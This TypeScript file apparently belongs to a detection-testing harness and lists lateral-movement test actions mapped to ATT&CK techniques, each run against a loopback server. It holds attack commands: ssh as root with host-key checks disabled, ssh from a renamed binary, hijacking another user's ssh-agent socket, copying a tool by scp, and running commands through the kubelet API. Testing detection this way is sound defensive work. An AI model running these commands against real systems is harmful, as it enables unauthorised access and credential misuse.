import type { Action } from '../action.ts'
import { received, server, webServer } from '../loopback-server.ts'

/** To the next machine. */
export const lateralMovement: readonly Action[] = [
  {
    id: 'ssh-login',
    title: 'Login by ssh',
    technique: 'T1021.004',
    needs: ['ssh'],
    before: server(22),
    run: 'timeout 1 ssh -o BatchMode=yes ann@198.51.100.7 id; :',
    effect: received('SSH-2.0'),
  },
  {
    id: 'ssh-unchecked',
    title: 'Login by ssh without check of the host',
    technique: 'T1021.004',
    needs: ['ssh'],
    before: server(22),
    run: 'timeout 1 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@198.51.100.7; :',
    effect: received('SSH-2.0'),
  },
  {
    id: 'ssh-by-renamed',
    title: 'Login by a renamed copy of ssh',
    technique: 'T1021.004',
    needs: ['ssh'],
    before: server(22),
    run: 'cp "$(command -v ssh)" /opt/update; timeout 1 /opt/update -o BatchMode=yes ann@198.51.100.7; :',
    effect: received('SSH-2.0'),
  },
  {
    id: 'agent-socket',
    title: 'Agent of another user used',
    technique: 'T1563.001',
    needs: ['ssh-agent', 'ssh-add'],
    before: 'ssh-agent -a /tmp/agent.1 >/dev/null',
    run: 'env SSH_AUTH_SOCK=/tmp/agent.1 ssh-add -l; :',
    effect: 'grep -q identities $OUT',
  },
  {
    id: 'agent-socket-python',
    title: 'The same by a Python program',
    technique: 'T1563.001',
    needs: ['ssh-agent'],
    before: 'mkdir -p /tmp/ssh-XXab; ssh-agent -a /tmp/ssh-XXab/agent.1 >/dev/null',
    program: {
      language: 'python',
      text: 'import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect("/tmp/ssh-XXab/agent.1")\ns.send(b"\\0\\0\\0\\1\\x0b")\nprint("got", s.recv(9))',
    },
    run: 'python3 $PROGRAM',
    effect: 'grep -q got $OUT',
    blind: 'connections of Unix sockets are not observed',
  },
  {
    id: 'tool-by-scp',
    title: 'Tool copied to another machine',
    technique: 'T1570',
    needs: ['scp'],
    before: server(22),
    run: 'timeout 1 scp -o BatchMode=yes /bin/busybox ann@10.0.0.5:/tmp/tool; :',
    effect: received('SSH-2.0'),
  },
  {
    id: 'container-api',
    title: 'Command in a container by the API of the cluster',
    technique: 'T1609',
    needs: ['curl'],
    before: webServer(10250),
    run: `curl -s http://10.0.0.5:10250/run/default/pod/c -d cmd=id`,
    effect: received('cmd=id'),
  },
]
